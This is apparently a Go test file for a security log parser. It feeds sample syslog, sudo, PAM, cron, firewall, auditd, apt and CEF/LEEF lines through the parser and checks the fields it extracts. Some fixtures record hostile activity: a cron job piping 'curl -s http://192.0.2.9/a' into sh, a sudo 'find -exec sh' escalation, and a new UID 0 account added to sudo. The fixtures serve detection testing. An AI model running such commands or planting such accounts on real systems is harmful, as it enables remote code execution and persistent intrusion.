package telemetry_test

import (
	"context"
	"fmt"
	"maps"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/cybervault/cybervault"
	"github.com/cybervault/cybervault/internal/telemetry"
)

// said is what a record says, as far as names are asked for: "" for a name is
// that there is none. The names in brackets are the Record's own.
func said(rec *cybervault.Record, name string) string {
	switch name {
	case "(source)":
		return strings.Join([]string{rec.Category, rec.Product, rec.Service}, "/")
	case "(time)":
		return rec.Time.Format(time.RFC3339Nano)
	case "(host)":
		return rec.Host
	case "(ip)":
		return rec.SourceIP
	case "(user)":
		return rec.User
	}
	if all := rec.Multi[name]; all != nil {
		return strings.Join(all, "+")
	}
	return rec.Fields[name]
}

func readAll(t *testing.T, input string) ([]*cybervault.Record, telemetry.Summary) {
	t.Helper()
	var all []*cybervault.Record
	sum, err := telemetry.Parse(t.Context(), strings.NewReader(input), telemetry.Options{Now: func() time.Time { return time.Date(2026, 3, 20, 0, 0, 0, 0, time.UTC) }},
		func(rec *cybervault.Record) error { all = append(all, rec); return nil })
	if err != nil {
		t.Fatal(err)
	}
	return all, sum
}

func TestTextSources(t *testing.T) {
	t.Parallel()
	const head = "Mar 10 08:00:00 web-1 "
	for name, tc := range map[string]struct {
		line string
		want map[string]string
	}{
		"sudo": {head + "sudo[7]:    alice : TTY=pts/0 ; PWD=/home/alice ; USER=root ; COMMAND=/usr/bin/find / -name x ; -exec sh", map[string]string{
			"(source)": "/linux/sudo", "(time)": "2026-03-10T08:00:00Z", "(host)": "web-1", "(user)": "alice", "USER": "root", "PWD": "/home/alice", "COMMAND": "/usr/bin/find / -name x ; -exec sh", "outcome": "success"}},
		"sudo refuses": {head + "sudo: bob : 3 incorrect password attempts ; TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/bin/sh", map[string]string{
			"(user)": "bob", "outcome": "failure", "reason": "3 incorrect password attempts", "COMMAND": "/bin/sh"}},
		"PAM of another service": {head + "vsftpd: pam_unix(vsftpd:auth): authentication failure; logname= uid=0 euid=0 tty=ftp ruser=a rhost=192.0.2.1 rhost=198.51.100.9  user=carol", map[string]string{
			"(source)": "/linux/vsftpd", "(ip)": "198.51.100.9", "(user)": "carol", "outcome": "failure", "pam_service": "vsftpd"}},
		"PAM knows no such user": {head + "login[3]: pam_unix(login:auth): check pass; user unknown", map[string]string{"outcome": "failure", "unknown_user": "true", "(user)": ""}},
		"a session":              {head + "su: pam_unix(su:session): session opened for user root(uid=0) by alice(uid=1000)", map[string]string{"(user)": "root", "by_user": "alice", "event": "session_opened", "outcome": ""}},
		"su":                     {head + "su[9]: FAILED SU (to root) mallory on pts/2", map[string]string{"(user)": "root", "by_user": "mallory", "outcome": "failure"}},
		"useradd":                {head + "useradd[9]: new user: name=svc2, UID=0, GID=0, home=/root, shell=/bin/bash, from=/dev/pts/0", map[string]string{"(user)": "svc2", "uid": "0", "event": "user_added", "shell": "/bin/bash"}},
		"usermod":                {head + "usermod[9]: add 'svc2' to group 'sudo'", map[string]string{"(user)": "svc2", "group": "sudo", "event": "group_changed"}},
		"logind":                 {head + "systemd-logind[5]: New session 42 of user alice.", map[string]string{"(user)": "alice", "session": "42", "event": "session_opened"}},
		"cron":                   {head + "CRON[77]: (root) CMD (curl -s http://192.0.2.9/a | sh)", map[string]string{"(source)": "/linux/cron", "(user)": "root", "CommandLine": "curl -s http://192.0.2.9/a | sh"}},
		"ufw":                    {head + "kernel: [12.3] [UFW BLOCK] IN=eth0 OUT= MAC=00:01 SRC=203.0.113.7 DST=10.0.0.5 LEN=40 PROTO=TCP SPT=4711 DPT=22 SYN URGP=0", map[string]string{"(source)": "firewall/linux/kernel", "(ip)": "203.0.113.7", "dst_ip": "10.0.0.5", "dst_port": "22", "protocol": "tcp", "action": "block"}},
		"dovecot":                {head + "dovecot: imap-login: Disconnected (auth failed, 1 attempts in 2 secs): user=<dora>, method=PLAIN, rip=203.0.113.8, lip=10.0.0.5, TLS", map[string]string{"(ip)": "203.0.113.8", "(user)": "dora", "outcome": "failure"}},
		"postfix":                {head + "postfix/smtpd[8]: warning: unknown[203.0.113.9]: SASL LOGIN authentication failed: UGFzc3dvcmQ6", map[string]string{"(ip)": "203.0.113.9", "outcome": "failure"}},
		"dropbear":               {head + "dropbear[8]: Bad password attempt for 'root' from 203.0.113.10:5000", map[string]string{"(ip)": "203.0.113.10", "outcome": "failure"}},
		"no login":               {head + "app[8]: request from 203.0.113.11 took 5 ms", map[string]string{"(source)": "/linux/app", "outcome": "", "(ip)": ""}},
		"a web server's syslog":  {"<190>" + head + `nginx: 203.0.113.12 - - [10/Mar/2026:08:00:00 +0000] "GET /a?b HTTP/1.1" 200 5 "-" "x"`, map[string]string{"(source)": "webserver//", "(ip)": "203.0.113.12", "(host)": "web-1", "cs-uri-query": "b"}},
		"dpkg":                   {"2026-03-10 08:00:00 install nmap:amd64 <none> 7.94", map[string]string{"(source)": "/linux/dpkg", "package": "nmap", "version": "7.94", "action": "install"}},
		"dpkg upgrades":          {"2026-03-10 08:00:00 upgrade nmap:amd64 7.93 7.94", map[string]string{"version": "7.94", "previous_version": "7.93"}},
		"dpkg removes":           {"2026-03-10 08:00:00 remove nmap:amd64 7.94 <none>", map[string]string{"version": "7.94", "action": "remove"}},
		"nginx's errors":         {`2026/03/10 08:00:00 [error] 9#9: *4 user "eve": password mismatch, client: 203.0.113.13, server: x, request: "GET /, client: 192.0.2.1 HTTP/1.1", host: "a.example"`, map[string]string{"(source)": "/nginx/nginx", "(ip)": "203.0.113.13", "(user)": "eve", "(host)": "a.example", "outcome": "failure", "request": "GET /, client: 192.0.2.1 HTTP/1.1"}},
		"Apache's errors":        {`[Tue Mar 10 08:00:00.123456 2026] [auth_basic:error] [pid 9:tid 2] [client 203.0.113.14:4711] AH01618: user eve not found: /secret`, map[string]string{"(source)": "/apache/apache", "(time)": "2026-03-10T08:00:00.123456Z", "(ip)": "203.0.113.14", "level": "error", "module": "auth_basic"}},
		"CEF":                    {"<5>" + head + `CEF:0|A Vendor|Fire\|wall|1|100|Login failed|5|src=203.0.113.15 suser=eve msg=two words\=here act=blocked dst=10.0.0.1`, map[string]string{"(source)": "/a_vendor/fire|wall", "(host)": "web-1", "(ip)": "203.0.113.15", "(user)": "eve", "msg": "two words=here", "action": "blocked", "dst_ip": "10.0.0.1", "outcome": "failure"}},
		"LEEF":                   {"LEEF:2.0|V|P|1|4000|^|src=203.0.113.16^usrName=eve^msg=a b", map[string]string{"(source)": "/v/p", "(ip)": "203.0.113.16", "(user)": "eve", "msg": "a b"}},
		"logfmt":                 {`time=2026-03-10T08:00:00Z level=warn msg="login failed" user=eve remote_addr=203.0.113.17:99 service=api`, map[string]string{"(source)": "//api", "(time)": "2026-03-10T08:00:00Z", "(ip)": "203.0.113.17", "(user)": "eve", "message": "login failed"}},
		"CRI":                    {`2026-03-10T08:00:00.5Z stdout F 203.0.113.18 - - [10/Mar/2026:08:00:00 +0000] "GET / HTTP/1.1" 200 5`, map[string]string{"(source)": "webserver//", "(ip)": "203.0.113.18"}},
		"an audited login":       {`node=db-1 type=USER_LOGIN msg=audit(1773129600.250:77): pid=9 uid=0 auid=4294967295 msg='op=login acct="eve" exe="/usr/sbin/sshd" hostname=? addr=203.0.113.19 terminal=ssh res=failed'`, map[string]string{"(source)": "/linux/auditd", "(time)": "2026-03-10T08:00:00.25Z", "(host)": "db-1", "(user)": "eve", "(ip)": "203.0.113.19", "outcome": "failure", "type": "USER_LOGIN"}},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			all, sum := readAll(t, tc.line+"\n")
			if len(all) != 1 || sum.Unreadable != 0 {
				t.Fatalf("%d records, %+v", len(all), sum)
			}
			for _, field := range slices.Sorted(maps.Keys(tc.want)) {
				if got := said(all[0], field); got != tc.want[field] {
					t.Errorf("%s is %q, want %q", field, got, tc.want[field])
				}
			}
		})
	}
}

const execve = `type=SYSCALL msg=audit(1773129600.250:77): arch=c000003e syscall=59 success=yes a0=55d a1=55e a2=0 a3=8 ppid=10 pid=11 auid=1000 uid=0 comm="curl" exe="/usr/bin/curl" key=(null)
type=SYSCALL msg=audit(1773129600.251:78): arch=c000003e syscall=2 success=no a0=1 pid=12 uid=33 comm="x" exe="/usr/bin/x" key="k"
type=EXECVE msg=audit(1773129600.250:77): argc=3 a0="curl" a1="-o" a2=2F746D702F6120622E7368
type=CWD msg=audit(1773129600.250:77): cwd="/root"
type=PATH msg=audit(1773129600.250:77): item=0 name="/usr/bin/curl" inode=1 nametype=NORMAL
type=PATH msg=audit(1773129600.250:77): item=1 name="/lib64/ld-linux-x86-64.so.2" inode=2 nametype=NORMAL
type=PROCTITLE msg=audit(1773129600.250:77): proctitle=6375726C002D6F002F746D702F6120622E7368
type=SERVICE_STOP msg=audit(1773129601.000:79): pid=1 uid=0 msg='unit=auditd comm="systemd" exe="/usr/lib/systemd/systemd" res=success'
`

// The lines of one audit event are one record, though another's stand between.
func TestAuditEventsAreJoined(t *testing.T) {
	t.Parallel()
	all, sum := readAll(t, execve)
	if len(all) != 3 || sum.Unreadable != 0 {
		t.Fatalf("%d records, %+v", len(all), sum)
	}
	slices.SortFunc(all, func(a, b *cybervault.Record) int { return a.Time.Compare(b.Time) })
	for i, want := range []map[string]string{
		{"(source)": "process_creation/linux/auditd", "type": "SYSCALL+EXECVE+CWD+PATH+PROCTITLE", "Image": "/usr/bin/curl", "CommandLine": "curl -o /tmp/a b.sh", "a0": "curl", "a2": "/tmp/a b.sh", "a3": "",
			"User": "root", "CurrentDirectory": "/root", "name": "/usr/bin/curl+/lib64/ld-linux-x86-64.so.2", "proctitle": "curl -o /tmp/a b.sh", "key": "", "ProcessId": "11", "ParentProcessId": "10"},
		{"(source)": "/linux/auditd", "type": "SYSCALL", "a0": "1", "key": "k", "outcome": "failure", "(user)": "33"},
		{"type": "SERVICE_STOP", "unit": "auditd", "outcome": "success"},
	} {
		for name, value := range want {
			if got := said(all[i], name); got != value {
				t.Errorf("record %d: %s is %q, want %q", i, name, got, value)
			}
		}
	}
	if n := strings.Count(string(all[0].Raw), "\n"); n != 5 || all[0].Line != 1 {
		t.Errorf("the record of six lines has %d line ends and begins on line %d", n, all[0].Line)
	}
}

// An event whose lines come as messages of their own, by syslog, is one record, too.
func TestAuditEventsInPieces(t *testing.T) {
	t.Parallel()
	reader, err := telemetry.NewPieces(telemetry.Options{})
	if err != nil {
		t.Fatal(err)
	}
	var found []string
	for line := range strings.Lines(execve) {
		if _, err := reader.Read(t.Context(), []byte("<13>Mar 10 08:00:00 db-1 audisp: "+line), func(rec *cybervault.Record) error {
			found = append(found, rec.Host+" "+said(rec, "CommandLine")+said(rec, "unit"))
			return nil
		}); err != nil {
			t.Fatal(err)
		}
	}
	if want := []string{"db-1 curl -o /tmp/a b.sh", "db-1 auditd"}; !slices.Equal(found, want) {
		t.Errorf("found %q, want %q", found, want)
	}
}

func TestAptHistory(t *testing.T) {
	t.Parallel()
	all, sum := readAll(t, `
Start-Date: 2026-03-10  08:00:00
Commandline: apt-get install nmap
Requested-By: alice (1000)
Install: nmap:amd64 (7.94), liblua5.3-0:amd64 (5.3.6-2, automatic)
Upgrade: tor:amd64 (0.4.7, 0.4.8)
End-Date: 2026-03-10  08:00:09
Install: nothing that belongs to a stanza (1)
`)
	if len(all) != 2 || sum.Unreadable != 1 {
		t.Fatalf("%d records, %+v", len(all), sum)
	}
	for i, want := range []map[string]string{
		{"(source)": "/linux/apt", "(time)": "2026-03-10T08:00:00Z", "(user)": "alice", "action": "install", "package": "nmap+liblua5.3-0", "version": "7.94+5.3.6-2", "CommandLine": "apt-get install nmap"},
		{"action": "upgrade", "package": "tor", "version": "0.4.8"},
	} {
		for name, value := range want {
			if got := said(all[i], name); got != value {
				t.Errorf("record %d: %s is %q, want %q", i, name, got, value)
			}
		}
	}
}

// Whatever the bytes, each line ends as a record or is counted, but for those of
// an audit event, which share one, and no field stands in two places.
func FuzzText(f *testing.F) {
	for line := range strings.Lines(execve) {
		f.Add(line + line)
	}
	for _, seed := range []string{
		"<13>Mar 10 08:00:00 h sudo: a : TTY=p ; USER=root ; COMMAND=x", "Mar 10 08:00:00 h kernel: IN=e SRC=1.2.3.4 DST=a PROTO=TCP", "CEF:0|a|b|c|d|e|f|g=h i=j", "LEEF:2.0|a|b|c|d|x09|e=f", "a=b c='d' e=\"f\\\"\"",
		"Start-Date: 2026-03-10  08:00:00\nInstall: a:b (1), c (2, automatic)", "2026-03-10 08:00:00 status installed a:b 1", "2026/03/10 08:00:00 [error] 9#9: *4 x, client: ::1, server: x", "2026-03-10T08:00:00Z stderr P {\"url\":\"/\"}",
		"[Tue Mar 10 08:00:00 2026] [error] [client 1.2.3.4] x", "Mar 10 08:00:00 h vsftpd: authentication failure; rhost=::1 user=x", "type=SOCKADDR msg=audit(1.2:3): saddr=0A000050000000000000000000000000000000000000000100000000",
	} {
		f.Add(seed)
	}
	f.Fuzz(func(t *testing.T, input string) {
		if strings.HasPrefix(input, "\x1f\x8b") {
			return // compressed, or not: TestGzipAndBounds
		}
		sum, err := telemetry.Parse(context.Background(), strings.NewReader(input), telemetry.Options{MaxLine: 1 << 16, Now: func() time.Time { return time.Unix(1773129600, 0) }}, func(rec *cybervault.Record) error {
			for name := range rec.Multi {
				if v, both := rec.Fields[name]; both {
					return fmt.Errorf("%s stands in Fields (%q) and in Multi", name, v)
				}
			}
			if rec.Fields == nil || len(rec.Raw) == 0 {
				return fmt.Errorf("a record without fields or text: %+v", rec)
			}
			return nil
		})
		if err != nil {
			t.Error(err)
		}
		if lines := strings.Count(input, "\n") + 1; sum.Records+sum.Unreadable+sum.Ignored > lines && !strings.ContainsAny(input, "{[") {
			t.Errorf("%d lines: %+v", lines, sum)
		}
	})
}
